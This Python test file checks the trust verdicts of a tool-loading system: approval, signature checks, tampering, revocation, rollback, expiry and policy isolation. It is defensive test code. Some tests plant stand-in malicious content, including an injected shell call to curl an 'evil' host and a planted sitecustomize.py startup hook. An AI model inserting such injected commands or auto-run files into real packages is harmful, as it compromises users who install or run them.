"""Trust verdicts of whole loads: one test per trust:* and risk:* threat, plus the happy paths."""

from __future__ import annotations

import base64
import json
import os
from datetime import timedelta
from pathlib import Path

import pytest
from toolkit import make_tool, project_tools
from trustkit import NOW, MinisignKey, minisign_keypair, minisign_sign, ssh_keypair, ssh_sign, write_lock

import tooldir
from tooldir.model import Status, ToolRecord
from tooldir.policy import KeysPolicy, Policy, ProjectSourcePolicy, SourcesPolicy
from tooldir.signatures import parse_minisign_public_key
from tooldir.state import Approval, load_high_water, record_approval, record_seen_versions


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return tmp_path / "project"


@pytest.fixture
def state(tmp_path: Path) -> Path:
    return tmp_path / "state"


@pytest.fixture
def key(tmp_path: Path) -> MinisignKey:
    return minisign_keypair(tmp_path / "keys")


def keys_policy(**keys: object) -> Policy:
    return Policy(keys=KeysPolicy.model_validate(keys))


def load_one(project: Path, state: Path, policy: Policy, name: str = "echo", **kw: object) -> ToolRecord:
    snap = tooldir.load(project=project, user_dirs=[], policy=policy, state_dir=state, now=kw.pop("now", NOW))
    (record,) = snap.records(name)
    return record


def codes(record: ToolRecord) -> list[str]:
    return [d.code for d in record.diagnostics]


def signed_tool(project: Path, key: MinisignKey, *, name: str = "echo", version: int = 1, **lock: object) -> Path:
    folder = make_tool(project_tools(project), name)
    minisign_sign(key, write_lock(folder, version=version, **lock))  # type: ignore[arg-type]
    return folder


def approve(state: Path, record: ToolRecord, key: str | None = None) -> None:
    assert record.path and record.digest
    files = tuple((f.path, f.sha256) for f in record.files)
    record_approval(state, Approval(record.path, record.name, record.digest, "2026-06-01T00:00:00Z", key, files))


# trust:unapproved
def test_new_project_tool_is_pending_not_approved(project: Path, state: Path) -> None:
    make_tool(project_tools(project), "echo")
    record = load_one(project, state, Policy())
    assert record.status is Status.PENDING
    assert codes(record) == ["not-approved"]


def test_approved_tool_is_active_and_the_approval_file_is_private(project: Path, state: Path) -> None:
    make_tool(project_tools(project), "echo")
    approve(state, load_one(project, state, Policy()))
    record = load_one(project, state, Policy())
    assert (record.status, record.trust.method) == (Status.ACTIVE, "approved")
    assert (state / "approvals.json").stat().st_mode & 0o777 == 0o600


# trust:changed
def test_changed_tool_is_pending_and_the_diagnostic_names_the_changed_files(project: Path, state: Path) -> None:
    folder = make_tool(project_tools(project), "echo", extra_files={"lib.py": "x = 1\n", "old.py": ""})
    approve(state, load_one(project, state, Policy()))
    (folder / "lib.py").write_text("import os; os.system('curl evil')\n")
    (folder / "old.py").unlink()
    (folder / "sitecustomize.py").write_text("")
    record = load_one(project, state, Policy())
    assert record.status is Status.PENDING
    (diag,) = [d for d in record.diagnostics if d.code == "changed-since-approval"]
    assert "changed: lib.py" in diag.message and "added: sitecustomize.py" in diag.message
    assert "removed: old.py" in diag.message


def test_approval_is_keyed_by_content_not_by_name(project: Path, state: Path) -> None:
    folder = make_tool(project_tools(project), "echo")
    approve(state, load_one(project, state, Policy()))
    (folder / "run.py").write_text("print('different')\n")
    assert load_one(project, state, Policy()).status is Status.PENDING


def test_validly_signed_tool_is_active_with_signer_and_version(project: Path, state: Path, key: MinisignKey) -> None:
    signed_tool(project, key, version=4)
    record = load_one(project, state, keys_policy(minisign=[key.line]))
    assert record.status is Status.ACTIVE, record.diagnostics
    assert record.trust.method.startswith("signed:minisign:")
    assert record.trust.version == 4


# trust:unlisted
def test_file_dropped_into_a_signed_package_is_unlisted_file(project: Path, state: Path, key: MinisignKey) -> None:
    folder = signed_tool(project, key)
    (folder / "sitecustomize.py").write_text("import evil\n")
    record = load_one(project, state, keys_policy(minisign=[key.line]))
    assert record.status is Status.REJECTED
    assert codes(record) == ["unlisted-file"]
    assert record.diagnostics[0].path == os.path.join(folder, "sitecustomize.py")


# trust:mix
def test_signed_lock_of_version_1_with_files_of_version_2_is_hash_mismatch(
    project: Path, state: Path, key: MinisignKey
) -> None:
    folder = signed_tool(project, key)
    (folder / "run.py").write_text("print('version 2')\n")
    record = load_one(project, state, keys_policy(minisign=[key.line]))
    assert (record.status, codes(record)) == (Status.REJECTED, ["hash-mismatch"])


def test_file_listed_in_the_signed_lock_but_deleted_is_missing_file(
    project: Path, state: Path, key: MinisignKey
) -> None:
    folder = make_tool(project_tools(project), "echo", extra_files={"lib.py": "x = 1\n"})
    minisign_sign(key, write_lock(folder))
    (folder / "lib.py").unlink()
    record = load_one(project, state, keys_policy(minisign=[key.line]))
    assert (record.status, codes(record)) == (Status.REJECTED, ["missing-file"])


# trust:bad-signature
def test_tampered_signature_is_bad_signature(project: Path, state: Path, key: MinisignKey) -> None:
    folder = signed_tool(project, key)
    sig = folder / "tool.lock.minisig"
    lines = sig.read_text().splitlines()
    raw = bytearray(base64.b64decode(lines[1]))
    raw[-1] ^= 0x01
    lines[1] = base64.b64encode(bytes(raw)).decode()
    sig.write_text("\n".join(lines) + "\n")
    record = load_one(project, state, keys_policy(minisign=[key.line]))
    assert (record.status, codes(record)) == (Status.REJECTED, ["bad-signature"])


def test_tampered_trusted_comment_is_bad_signature(project: Path, state: Path, key: MinisignKey) -> None:
    folder = signed_tool(project, key)
    sig = folder / "tool.lock.minisig"
    sig.write_text(sig.read_text().replace("trusted comment: tooldir test", "trusted comment: tooldir TEST"))
    record = load_one(project, state, keys_policy(minisign=[key.line]))
    assert (record.status, codes(record)) == (Status.REJECTED, ["bad-signature"])
    assert "trusted comment" in record.diagnostics[0].message


def test_tampered_lock_is_bad_signature(project: Path, state: Path, key: MinisignKey) -> None:
    folder = signed_tool(project, key)
    lock = folder / "tool.lock"
    lock.write_text(lock.read_text().replace('"version": 1', '"version": 9'))
    record = load_one(project, state, keys_policy(minisign=[key.line]))
    assert (record.status, codes(record)) == (Status.REJECTED, ["bad-signature"])


def test_garbage_signature_file_is_bad_signature_without_a_crash(project: Path, state: Path, key: MinisignKey) -> None:
    folder = make_tool(project_tools(project), "echo")
    write_lock(folder)
    (folder / "tool.lock.minisig").write_bytes(b"\xff\xfe garbage")
    (folder / "tool.lock.sig").write_text("-----BEGIN SSH SIGNATURE-----\nAAAA\n-----END SSH SIGNATURE-----\n")
    record = load_one(project, state, keys_policy(minisign=[key.line]))
    assert (record.status, codes(record)) == (Status.REJECTED, ["bad-signature", "bad-signature"])


def test_signed_but_malformed_lock_is_invalid_lock(project: Path, state: Path, key: MinisignKey) -> None:
    folder = make_tool(project_tools(project), "echo")
    (folder / "tool.lock").write_text('{"format": "tooldir-lock/1", "name": "echo"}')
    minisign_sign(key, folder / "tool.lock")
    record = load_one(project, state, keys_policy(minisign=[key.line]))
    assert (record.status, codes(record)) == (Status.REJECTED, ["invalid-lock"])


# trust:untrusted-key
def test_valid_signature_by_an_unknown_key_is_untrusted_key_and_stays_pending(
    project: Path, state: Path, key: MinisignKey, tmp_path: Path
) -> None:
    other = minisign_keypair(tmp_path / "other")
    signed_tool(project, other)
    record = load_one(project, state, keys_policy(minisign=[key.line]))
    assert (record.status, codes(record)) == (Status.PENDING, ["untrusted-key", "not-approved"])


# trust:revoked
def test_signature_by_a_revoked_key_is_revoked_key(project: Path, state: Path, key: MinisignKey) -> None:
    signed_tool(project, key)
    record = load_one(project, state, keys_policy(minisign=[key.line], revoked=[key.line]))
    assert (record.status, codes(record)) == (Status.REJECTED, ["revoked-key"])


def test_revoking_a_key_also_invalidates_approvals_that_recorded_it(
    project: Path, state: Path, key: MinisignKey, tmp_path: Path
) -> None:
    signed_tool(project, key)
    pub = key.public.read_text().splitlines()[0].rsplit(" ", 1)[-1]  # the key id as minisign prints it
    only_approval = SourcesPolicy(project=ProjectSourcePolicy(require=("approval",), max_risk="write"))
    approve(
        state, load_one(project, state, Policy(sources=only_approval)), key=parse_minisign_public_key(key.line).ident
    )
    assert load_one(project, state, Policy(sources=only_approval)).status is Status.ACTIVE
    revoked = Policy(sources=only_approval, keys=KeysPolicy(revoked=(pub,)))
    record = load_one(project, state, revoked)
    assert (record.status, codes(record)) == (Status.REJECTED, ["revoked-key"])


# trust:rollback
def test_older_validly_signed_version_after_a_newer_one_was_seen_is_rollback(
    project: Path, state: Path, key: MinisignKey
) -> None:
    policy = keys_policy(minisign=[key.line])
    folder = signed_tool(project, key, version=2)
    seen = load_one(project, state, policy)
    assert load_high_water(state) == {(seen.trust.signer, "echo"): 2}  # the load itself recorded it
    assert record_seen_versions(state, [seen]) == []  # recording again changes nothing
    minisign_sign(key, write_lock(folder, version=1))  # the attacker restores the older signed release
    record = load_one(project, state, policy)
    assert (record.status, codes(record)) == (Status.REJECTED, ["rollback"])
    minisign_sign(key, write_lock(folder, version=3))
    newer = load_one(project, state, policy)
    assert newer.status is Status.ACTIVE
    record_seen_versions(state, [newer])
    assert load_high_water(state) == {(newer.trust.signer, "echo"): 3}


def test_dropping_one_of_two_signatures_cannot_roll_back_to_an_older_version(
    project: Path, state: Path, key: MinisignKey, tmp_path: Path
) -> None:
    ssh = ssh_keypair(tmp_path / "ssh")
    (tmp_path / "signers").write_text(f"alice@example.com {ssh.public_line}\n")
    policy = keys_policy(minisign=[key.line], allowed_signers=str(tmp_path / "signers"))
    folder = make_tool(project_tools(project), "echo")
    lock = write_lock(folder, version=2)
    minisign_sign(key, lock)
    ssh_sign(ssh, lock)
    seen = load_one(project, state, policy)
    assert seen.status is Status.ACTIVE
    record_seen_versions(state, [seen])
    (folder / "tool.lock.minisig").unlink()  # the attacker restores v1, signed by the SSH key only
    ssh_sign(ssh, write_lock(folder, version=1))
    record = load_one(project, state, policy)
    assert (record.status, codes(record)) == (Status.REJECTED, ["rollback"])


def test_a_load_writes_only_the_rollback_marks_and_verification_cache_and_an_unsigned_load_nothing(
    project: Path, state: Path, key: MinisignKey, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TOOLDIR_NO_INDEX", "1")  # the content index is the one other file (below)
    make_tool(project_tools(project), "plain")
    load_one(project, state, keys_policy(minisign=[key.line]), name="plain")
    assert not state.exists()
    signed_tool(project, key, version=2)
    load_one(project, state, keys_policy(minisign=[key.line]))
    assert sorted(p.name for p in state.iterdir() if not p.name.startswith(".")) == ["verified.bin", "versions.json"]
    assert all(p.stat().st_mode & 0o777 == 0o600 for p in state.iterdir() if p.is_file())


def test_with_the_content_index_a_load_also_writes_only_its_private_index_folder(
    project: Path, state: Path, key: MinisignKey, tmp_path: Path
) -> None:
    make_tool(project_tools(project), "plain")
    load_one(project, state, keys_policy(minisign=[key.line]), name="plain")
    assert not state.exists()  # a trust-gated (project) root is never indexed
    make_tool(tmp_path / "user", "mine")
    tooldir.load(project=None, user_dirs=[tmp_path / "user"], state_dir=state, now=NOW)
    assert sorted(p.name for p in state.iterdir() if not p.name.startswith(".")) == ["index"]
    assert (state / "index").stat().st_mode & 0o777 == 0o700
    assert all(p.stat().st_mode & 0o777 == 0o600 for p in (state / "index").iterdir())


# trust:expired
def test_lock_past_its_expiry_is_expired(project: Path, state: Path, key: MinisignKey) -> None:
    signed_tool(project, key, expires=NOW + timedelta(days=1))
    policy = keys_policy(minisign=[key.line])
    assert load_one(project, state, policy).status is Status.ACTIVE
    record = load_one(project, state, policy, now=NOW + timedelta(days=1))
    assert (record.status, codes(record)) == (Status.REJECTED, ["expired"])


# trust:replay
def test_lock_signed_for_another_tool_name_is_bad_signature(project: Path, state: Path, key: MinisignKey) -> None:
    folder = make_tool(project_tools(project), "echo")
    minisign_sign(key, write_lock(folder, name="other_tool"))
    record = load_one(project, state, keys_policy(minisign=[key.line]))
    assert (record.status, codes(record)) == (Status.REJECTED, ["bad-signature"])
    assert "other_tool" in record.diagnostics[0].message


def test_ssh_signature_for_another_namespace_is_bad_signature(project: Path, state: Path, tmp_path: Path) -> None:
    ssh = ssh_keypair(tmp_path / "ssh")
    (tmp_path / "signers").write_text(f"alice@example.com {ssh.public_line}\n")
    folder = make_tool(project_tools(project), "echo")
    ssh_sign(ssh, write_lock(folder), namespace="git")
    record = load_one(project, state, keys_policy(allowed_signers=str(tmp_path / "signers")))
    assert (record.status, codes(record)) == (Status.REJECTED, ["bad-signature"])
    assert "namespace 'git'" in record.diagnostics[0].message


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        pytest.param('alice@example.com namespaces="tooldir" {key}', Status.ACTIVE, id="namespace-tooldir"),
        pytest.param("alice@example.com {key}", Status.ACTIVE, id="any-namespace"),
        pytest.param('alice@example.com namespaces="git" {key}', Status.PENDING, id="git-only"),
        pytest.param('alice@example.com valid-before="20260101Z" {key}', Status.PENDING, id="no-longer-valid"),
        pytest.param('alice@example.com valid-after="20270101Z" {key}', Status.PENDING, id="not-yet-valid"),
        pytest.param("", Status.PENDING, id="not-listed"),
    ],
)
def test_ssh_signed_tool_is_trusted_only_as_allowed_signers_says(
    project: Path, state: Path, tmp_path: Path, line: str, expected: Status
) -> None:
    ssh = ssh_keypair(tmp_path / "ssh")
    (tmp_path / "signers").write_text(line.format(key=ssh.public_line) + "\n")
    folder = make_tool(project_tools(project), "echo")
    ssh_sign(ssh, write_lock(folder))
    record = load_one(project, state, keys_policy(allowed_signers=str(tmp_path / "signers")))
    assert record.status is expected, record.diagnostics
    if expected is Status.ACTIVE:
        assert record.trust.method == "signed:alice@example.com"
    else:
        assert "untrusted-key" in codes(record)


def test_malformed_allowed_signers_line_is_reported_on_the_tool_it_fails_to_trust(
    project: Path, state: Path, tmp_path: Path
) -> None:
    ssh = ssh_keypair(tmp_path / "ssh")
    (tmp_path / "signers").write_text(f"alice@example.com cert-authority {ssh.public_line}\n")
    folder = make_tool(project_tools(project), "echo")
    ssh_sign(ssh, write_lock(folder))
    record = load_one(project, state, keys_policy(allowed_signers=str(tmp_path / "signers")))
    assert record.status is Status.PENDING
    (problem,) = [d for d in record.diagnostics if d.code == "invalid-key"]
    assert "line 1" in problem.message and "cert-authority" in problem.message


def test_signature_file_without_a_lock_is_missing_file_and_pending(
    project: Path, state: Path, key: MinisignKey
) -> None:
    folder = signed_tool(project, key)
    (folder / "tool.lock").unlink()
    record = load_one(project, state, keys_policy(minisign=[key.line]))
    assert record.status is Status.PENDING
    assert "missing-file" in codes(record)


def test_pinned_digest_makes_a_tool_active_and_a_changed_one_pending(project: Path, state: Path) -> None:
    folder = make_tool(project_tools(project), "echo")
    digest = load_one(project, state, Policy()).digest
    assert digest is not None
    pinned = Policy(pins={"echo": digest})
    assert load_one(project, state, pinned).trust.method == "pinned"
    (folder / "run.py").write_text("changed\n")
    record = load_one(project, state, pinned)
    assert record.status is Status.PENDING and "hash-mismatch" in codes(record)


# risk:ceiling
def test_project_tool_above_the_risk_ceiling_is_rejected_even_when_approved(project: Path, state: Path) -> None:
    make_tool(project_tools(project), "echo", risk="exec")
    approve(state, load_one(project, state, Policy()))
    record = load_one(project, state, Policy())
    assert (record.status, codes(record)) == (Status.REJECTED, ["risk-not-allowed"])


# trust:redirect
def test_project_files_cannot_supply_policy_keys_or_approvals(project: Path, state: Path, key: MinisignKey) -> None:
    signed_tool(project, key)
    (project / ".tooldir" / "policy.toml").write_text(f'[keys]\nminisign = ["{key.line}"]\n')
    (project / ".tooldir" / "approvals.json").write_text(json.dumps({"version": 1, "approvals": {}}))
    (project / ".env").write_text(f"TOOLDIR_STATE_DIR={project}\n")
    record = load_one(project, state, Policy())
    assert record.status is Status.PENDING
    assert "untrusted-key" in codes(record)


def test_relative_xdg_dirs_are_ignored_so_the_project_never_supplies_policy_or_state(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tooldir.policy import default_policy_path, load_policy
    from tooldir.snapshot.loader import user_root_default
    from tooldir.state import default_state_dir

    home = tmp_path / "home"
    home.mkdir()
    (project / "cfg" / "tooldir").mkdir(parents=True)
    (project / "cfg" / "tooldir" / "policy.toml").write_text("[sources.project]\nrequire = []\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", "cfg")  # relative: the XDG spec says ignore it
    monkeypatch.setenv("XDG_STATE_HOME", "state")
    monkeypatch.chdir(project)
    assert default_policy_path() == home / ".config" / "tooldir" / "policy.toml"
    assert default_state_dir() == home / ".local" / "state" / "tooldir"
    assert user_root_default().path == str(home / ".config" / "tooldir" / "tools")  # never project tools as user's
    policy, source = load_policy()
    assert source is None and policy.sources.project.require == ("approval", "signature", "pin")


def test_remembered_verifications_spare_a_new_process_the_signature_check(
    project: Path, state: Path, key: MinisignKey, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tooldir import signatures as sg
    from tooldir.snapshot.loader import remember_load

    signed_tool(project, key)
    policy = keys_policy(minisign=[key.line])
    calls: list[int] = []
    real = sg._verify_minisign
    monkeypatch.setattr(sg, "_verify_minisign", lambda *a: calls.append(1) or real(*a))
    snap = tooldir.load(project=project, user_dirs=[], policy=policy, state_dir=state, now=NOW)
    assert calls == [1]
    remember_load(state, snap.tools)
    assert (state / "verified.bin").stat().st_mode & 0o777 == 0o600
    # each load is a new Loader with its own TrustCache, as a new process would be
    assert load_one(project, state, policy).status is Status.ACTIVE
    assert calls == [1]
    (state / "verified.bin").write_bytes(b"garbage")  # a broken cache is only a cache
    assert load_one(project, state, policy).status is Status.ACTIVE
    assert calls == [1, 1]


def test_two_loaders_in_one_process_never_share_verification_results(
    project: Path, tmp_path: Path, key: MinisignKey, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tooldir import signatures as sg
    from tooldir.snapshot.loader import Loader, make_config

    signed_tool(project, key)
    calls: list[int] = []
    real = sg._verify_minisign
    monkeypatch.setattr(sg, "_verify_minisign", lambda *a: calls.append(1) or real(*a))
    other = minisign_keypair(tmp_path / "other", "other")

    def loader(name: str, *trusted: MinisignKey) -> Loader:
        policy = keys_policy(minisign=[k.line for k in trusted])
        return Loader(make_config(project=project, user_dirs=[], policy=policy, state_dir=tmp_path / name))

    trusting, doubting = loader("a", key), loader("b", other)
    (a,) = trusting.load(now=NOW).records("echo")
    assert a.status is Status.ACTIVE and a.trust.method.startswith("signed:")
    (b,) = doubting.load(now=NOW).records("echo")
    assert b.status is Status.PENDING and "untrusted-key" in codes(b)
    assert trusting.trust_cache is not doubting.trust_cache
    assert len(trusting.trust_cache.verifications) == 1 and len(doubting.trust_cache.verifications) == 0
    assert not (tmp_path / "b" / "verified.bin").exists()  # b's state holds nothing a verified
    # a third loader that trusts the key verifies for itself: nothing a verified counts for it
    (c,) = loader("c", key).load(now=NOW).records("echo")
    assert c.status is Status.ACTIVE and calls == [1, 1]
